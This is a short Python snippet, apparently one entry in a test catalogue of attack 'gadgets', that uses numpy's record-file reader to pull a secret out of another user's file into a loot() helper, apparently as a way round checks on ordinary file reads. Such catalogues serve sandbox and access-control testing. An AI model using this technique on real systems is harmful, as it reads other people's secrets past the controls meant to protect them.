# kind: gadgets
# tries: numpy records out of another user's file

import numpy as np

loot(np.rec.fromfile(VICTIM["secret"], dtype="S32", shape=1))
